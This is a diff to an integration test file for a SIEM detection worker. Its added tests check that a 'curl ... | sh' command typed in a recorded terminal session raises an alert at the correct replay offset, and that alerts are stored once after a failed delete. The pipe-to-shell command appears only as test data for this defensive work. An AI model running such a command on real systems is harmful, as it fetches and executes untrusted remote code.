@@ -4,12 +4,15 @@ JSON-lines sink subscribed to ``alert.*`` (the siem sink worker, in-process)."""
 
 from __future__ import annotations
 
+import asyncio
 import random
 import signal
 import subprocess
 import sys
 import threading
 import time
+from collections.abc import Sequence
+from datetime import datetime, timedelta
 from pathlib import Path
 from typing import Any
 
@@ -18,15 +21,21 @@ import orjson
 import pytest
 
 from schemas import encode_chunk
+from sessionvault.errors import StorageError
 from sessionvault.settings import Settings
 from siem.config import SinkConfig, parse_siem_config
 from siem.detect import DetectWorker
+from siem.output_feed import OutputFeed
+from storage import pg
+from storage.pg_sync import SyncPostgres
+from storage.reader import iter_frames
 from tests.integration.api_support import make_token, serve
 from tests.integration.import_support import drain, fetch
 from tests.integration.persist_helpers import build_session, drained, group_lag, produce
 from tests.integration.siem_support import produce_events, running_sink
 from tests.integration.test_kube_webhook import event_list, fixture_events
 from tests.integration.test_recorder_spool import consume_all
+from tests.integration.typed_session import STARTED_AT, TypedSession, record_typed_session
 
 pytestmark = pytest.mark.integration
 
@@ -38,11 +47,17 @@ EXEC_AUDIT_ID = "ca1ed9f4-7bf4-4c85-81a8-1b11253d1ba6"
 
 
 def run_detect_until_drained(
-    settings: Settings, *, group: str = "detect", timeout_s: float = 90
+    settings: Settings,
+    *,
+    group: str = "detect",
+    timeout_s: float = 90,
+    worker: DetectWorker | None = None,
 ) -> DetectWorker:
     """A real DetectWorker in a thread until its group's committed lag on the events topic is
-    0 (which includes the alerts it produced itself: it has read them back and skipped them)."""
-    worker = DetectWorker(settings, group_id=group)
+    0 (which includes the alerts it produced itself: it has read them back and skipped them)
+    and the segmenter's terminal-output feed is empty."""
+    worker = worker or DetectWorker(settings, group_id=group)
+    group = worker.group_id
     stop = threading.Event()
     errors: list[BaseException] = []
 
@@ -56,7 +71,7 @@ def run_detect_until_drained(
     thread.start()
     deadline = time.monotonic() + timeout_s
     try:
-        while not drained(settings, [settings.topic_events], group):
+        while not drained(settings, [settings.topic_events], group) or feed_rows(settings):
             assert not errors, f"detect worker crashed: {errors[0]!r}"
             assert thread.is_alive(), "detect worker returned before it was stopped"
             assert time.monotonic() < deadline, f"lag not 0: {group_lag(settings, group)}"
@@ -67,6 +82,13 @@ def run_detect_until_drained(
     assert not thread.is_alive(), "detect worker did not stop"
     assert not errors, f"detect worker crashed: {errors[0]!r}"
     return worker
+
+
+def feed_rows(settings: Settings) -> int:
+    """Rows of the terminal-output feed not yet detected."""
+    n = fetch(settings, "SELECT count(*) AS n FROM detect_feed")[0]["n"]
+    assert isinstance(n, int)
+    return n
 
 
 def stored_alerts(settings: Settings) -> list[dict[str, Any]]:
@@ -289,3 +311,99 @@ def test_worker_detect_cli_produces_alerts_and_stops_cleanly_on_sigterm(
     assert b"stopped after 2 records, 1 alerts" in err
     alerts = alerts_on_kafka(settings)
     assert [(a["rule_id"], a["matched_uid"]) for a in alerts] == [(CURL_RULE, "exec-1")]
+
+
+# Typed with a typo in the shell's name that is erased and fixed: only the rendered line (what
+# the reviewer saw) is a download piped into a shell.
+CURL_TYPED = "curl -fsSL https://get.example.com/i.sh | sh"
+CURL_TYPO = "curl -fsSL https://get.example.com/i.sh | sj"
+
+
+def _first_output_from(settings: Settings, sid: str, start_ms: int) -> bytes:
+    async def read() -> bytes:
+        pool = await pg.create_pool(settings.postgres_dsn.get())
+        try:
+            async for frame in iter_frames(pool, settings.tenant, sid, start_ms=start_ms):
+                if frame.stream.value == "o":
+                    return frame.data
+            return b""
+        finally:
+            await pool.close()
+
+    return asyncio.run(read())
+
+
+def _record_curl_session(settings: Settings) -> TypedSession:
+    typed = record_typed_session(settings, command=CURL_TYPED, typo=CURL_TYPO, seed=11)
+    # persist + segmenter: the output lines are rendered and fed to detection
+    drain(settings, [settings.topic_chunks])
+    assert feed_rows(settings) >= 1
+    return typed
+
+
+def test_curl_pipe_shell_typed_in_a_recorded_session_alerts_from_its_output_at_the_typing_offset(
+    settings: Settings, tmp_path: Path
+) -> None:
+    typed = _record_curl_session(settings)
+    worker = run_detect_until_drained(settings)
+    assert worker.stats.output_alerts == 1
+    assert worker.stats.output_segments >= 3  # the login banner, the command line, "logout"
+    drain(settings, [settings.topic_events])
+
+    alerts = stored_alerts(settings)
+    assert [a["rule_id"] for a in alerts] == [CURL_RULE]
+    alert = alerts[0]
+    assert alert["sid"] == typed.sid
+    assert alert["matched_event"] == "output"
+    assert alert["user"] == "alice"
+    assert alert["server_id"] == "web-1"
+    # The link opens when the "c" of curl was echoed (not when the prompt was printed): the
+    # first output played from there is that character.
+    assert abs(alert["offset_ms"] - typed.first_ms) <= 1
+    offset = alert["offset_ms"]
+    assert alert["replay"] == f"sessionvault play {typed.sid} --start-at {offset / 1000:.3f}"
+    assert _first_output_from(settings, typed.sid, offset) == b"c"
+    started = datetime.fromisoformat(STARTED_AT.replace("Z", "+00:00"))
+    expected_time = started + timedelta(milliseconds=offset)
+    assert datetime.fromisoformat(alert["time"].replace("Z", "+00:00")) == expected_time
+
+    lines = sink_lines(settings, tmp_path / "alerts.jsonl", 1)
+    assert [(d["uid"], d["replay"]) for d in lines] == [(alert["uid"], alert["replay"])]
+
+    # Every feed row was deleted after its alerts were acknowledged: nothing is evaluated twice.
+    assert feed_rows(settings) == 0
+    again = run_detect_until_drained(settings)
+    assert again.stats.output_segments == 0
+    assert again.stats.output_alerts == 0
+
+
+class _DeleteFailsOnce(OutputFeed):
+    """The feed as it is, except that the first delete fails (as if PostgreSQL went away right
+    after the alerts were acknowledged by Kafka)."""
+
+    failed = False
+
+    def done(self, ids: Sequence[int]) -> None:
+        if not self.failed:
+            self.failed = True
+            raise StorageError("injected: connection lost before the feed rows were deleted")
+        super().done(ids)
+
+
+def test_a_feed_batch_whose_delete_fails_is_detected_again_and_its_alert_stored_once(
+    settings: Settings,
+) -> None:
+    _record_curl_session(settings)
+    db = SyncPostgres(settings.postgres_dsn.get())
+    feed = _DeleteFailsOnce(db)
+    worker = DetectWorker(settings, group_id="detect-feed-retry", output_feed=feed)
+    run_detect_until_drained(settings, worker=worker)
+    assert feed.failed
+    assert worker.stats.output_retries == 1
+    assert feed_rows(settings) == 0
+    on_kafka = [a for a in alerts_on_kafka(settings) if a["rule_id"] == CURL_RULE]
+    # produced twice (before and after the failure), identical: same uid, same time
+    assert len(on_kafka) == 2
+    assert len({(a["uid"], a["time"], a["offset_ms"]) for a in on_kafka}) == 1
+    drain(settings, [settings.topic_events])
+    assert [a["uid"] for a in stored_alerts(settings)] == [on_kafka[0]["uid"]]
